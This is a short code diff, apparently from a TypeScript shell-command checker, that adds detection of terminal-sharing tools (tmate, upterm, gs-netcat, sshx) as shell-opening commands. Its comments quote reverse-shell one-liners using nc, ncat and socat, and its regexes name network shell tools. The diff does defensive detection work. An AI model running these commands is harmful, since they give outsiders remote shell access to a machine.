@@ -42,10 +42,14 @@ function isBareShell(command: ShellCommand): boolean {
   return runsItsInput(command) || words.some(({ literal = "" }) => /^-[a-z]*i[a-z]*$/.test(literal));
 }
 
+/** `tmate -F` lets in whoever reads what it prints. */
+const SHARES_TERMINAL = /^(?:tmate(?: |$)(?!.*\b(?:-V|show)\b)|upterm host\b|gs-netcat\b|sshx(?: |$))/;
+
 /** `nc -e /bin/sh host 4444`, `ncat --sh-exec bash …`, `socat exec:'bash -li',pty tcp:host:4444` */
 function startsShell(command: ShellCommand): boolean {
   const { name = "", line } = commandLine(command);
   if (/^(?:nc|ncat|netcat)$/.test(name)) return GIVEN_SHELL.test(line);
+  if (SHARES_TERMINAL.test(line)) return true;
   return name === "socat" && / (?:exec|system|shell):\S*(?:\b(?:ba|da|z|k|a)?sh\b|\$)/i.test(line);
 }
 
